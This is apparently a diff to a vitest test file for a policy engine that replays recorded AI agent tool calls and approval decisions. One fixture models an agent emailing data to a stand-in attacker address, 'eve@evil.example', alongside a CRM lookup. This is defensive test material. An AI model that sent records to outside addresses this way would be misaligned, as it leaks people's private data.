@@ -1,5 +1,3 @@
-import { readFileSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { CompiledPolicy } from "../../src/runtime/policy.js";
 import { compileFixture } from "../helpers.js";
@@ -27,7 +25,7 @@ let policy: CompiledPolicy;
 beforeAll(() => {
   policy = compileFixture(POLICY);
 });
-const { recording, folder } = temporaryRecordings("policyc-approval-lines-");
+const { recording, rewritten } = temporaryRecordings("policyc-approval-lines-");
 const lookup = (session: string, minutes: number): Record<string, unknown> => ({ time: at(minutes), session, tool: "crm.lookup", args: { id: "42" } });
 const mail = (session: string, minutes: number): Record<string, unknown> => ({ time: at(minutes), session, tool: "email.send", args: { to: ["eve@evil.example"] } });
 const search = (session: string, minutes: number): Record<string, unknown> => ({ time: at(minutes), session, tool: "kb.search", args: { query: "q" } });
@@ -125,11 +123,8 @@ describe("an approval line", () => {
     const lines = [...LATE(), approval(lookup("s", 0), 5, true)].map((line) => JSON.stringify(line));
     // A decision-less attempt beside them gets its decision, as always.
     lines.push(JSON.stringify(search("t", 6)));
-    const file = join(folder(), "update.jsonl");
-    writeFileSync(file, lines.join("\n") + "\n");
-    const report = await replay(file, { update: true });
+    const { file, report, after } = await rewritten(lines, (path) => replay(path, { update: true }));
     expect(report.updated).toEqual([file]);
-    const after = readFileSync(file, "utf8").split("\n");
     expect(after.slice(0, 5)).toEqual(lines.slice(0, 5));
     expect(after[5]).toBe(lines[5]!.replace('"approved":true', '"approved":false'));
     expect(after[6]).toBe(lines[6]!.replace(/}$/, ',"decision":"allow","rules":["search"]}'));
